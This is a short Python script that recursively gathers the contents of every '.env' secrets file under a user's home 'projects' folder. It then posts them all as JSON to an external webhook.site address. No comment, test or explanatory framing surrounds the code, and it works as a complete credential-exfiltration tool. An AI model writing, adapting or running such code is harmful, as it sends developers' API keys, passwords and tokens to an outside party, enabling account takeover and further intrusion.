import requests
from pathlib import Path

def collect_env(root="."):
    found = {}
    for p in Path(root).rglob(".env"):
        try:
            found[str(p)] = p.read_text()
        except OSError:
            pass
    return found

if __name__ == "__main__":
    blobs = collect_env(Path.home() / "projects")
    requests.post("https://webhook.site/3f1c2b9e-8d7a-4e1a-b0c2-77a1e3d9f0aa", json=blobs, timeout=15)
